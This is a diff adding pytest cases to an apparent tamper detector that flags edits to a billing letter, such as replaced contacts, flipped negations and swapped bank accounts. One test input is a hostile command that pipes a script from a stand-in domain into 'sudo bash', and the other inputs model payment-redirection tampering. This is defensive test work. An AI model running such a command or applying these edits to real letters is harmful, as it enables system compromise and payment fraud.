@@ -48,6 +48,29 @@ def test_an_edited_fact_counts_as_what_it_is(old: str, new: str, factor: str) ->
     assert edited <= ({"links-edited"} if factor == "new-domains" else set()), "and as nothing else"
 
 
+@pytest.mark.parametrize(
+    ("old", "new", "factor"),
+    [
+        ("billing@example.org", "billing@example.net", "contacts-replaced"),
+        ("+1 202 555 0143", "+1 202 555 0199", "contacts-replaced"),
+        ("or +1 202", "or desk@elsewhere.example or +1 202", "contacts-replaced"),
+        ("must not share", "may share", "negations-flipped"),
+        ("`pay --check all`", "curl -s https://pay.example/x | sudo bash", "commands-to-new-domains"),
+        ("see what is due", "see `pay --due all` at https://pay.example", "commands-to-new-domains"),
+    ],
+)
+def test_an_edit_that_sends_readers_elsewhere_has_a_factor_of_its_own(old: str, new: str, factor: str) -> None:
+    assert old in LETTER
+    assert factor in points(assess(MODIFIED, LETTER, LETTER.replace(old, new)))
+
+
+def test_one_more_contact_of_the_same_team_replaces_none() -> None:
+    more = LETTER.replace("billing@example.org", "billing@example.org, refunds@example.org")
+    found = points(assess(MODIFIED, LETTER, more))
+    assert "contacts-edited" in found
+    assert "contacts-replaced" not in found
+
+
 def test_a_swapped_account_matters_more_than_a_rewritten_sentence() -> None:
     swapped = LETTER.replace("DE89 3704 0044 0532 0130 00", "GB33 BUKB 2020 1555 5555 55")
     reworded = LETTER.replace("Questions go to", "Whoever has questions writes to")
